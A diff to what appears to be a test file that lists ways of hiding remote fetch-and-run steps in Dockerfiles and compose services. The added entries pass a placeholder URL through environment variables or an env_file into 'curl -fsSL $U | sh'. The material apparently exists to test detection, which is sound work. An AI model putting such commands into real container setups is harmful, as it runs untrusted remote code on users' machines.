@@ -21,6 +21,18 @@ const WAYS: readonly (readonly [name: string, files: (address: string) => Files]
   ['read', (address) => RUN(`echo ${address}/x.sh | while read u; do curl -fsSL $u | sh; done`)],
   ['a file that is run', (address) => RUN(`if [ -e /x ]; then U=${address}/x; fi; curl -fsSLo /y $U; sh /y`)],
   [
+    'a variable of the container',
+    (address) =>
+      SERVICE(`${OF_IMAGE}    environment: {U: ${address}/x}\n    command: sh -c 'curl -fsSL $$U | sh'\n`, {}),
+  ],
+  [
+    'a variable of the container in a file',
+    (address) =>
+      SERVICE(`${OF_IMAGE}    env_file: a.env\n    command: ["sh", "-c", "curl -fsSL $\${U} | sh"]\n`, {
+        'a.env': `U=${address}/x\n`,
+      }),
+  ],
+  [
     'a variable of a container for the command of its image',
     (address) =>
       SERVICE(`    build: .\n    environment:\n      U: ${address}/x.sh\n`, {
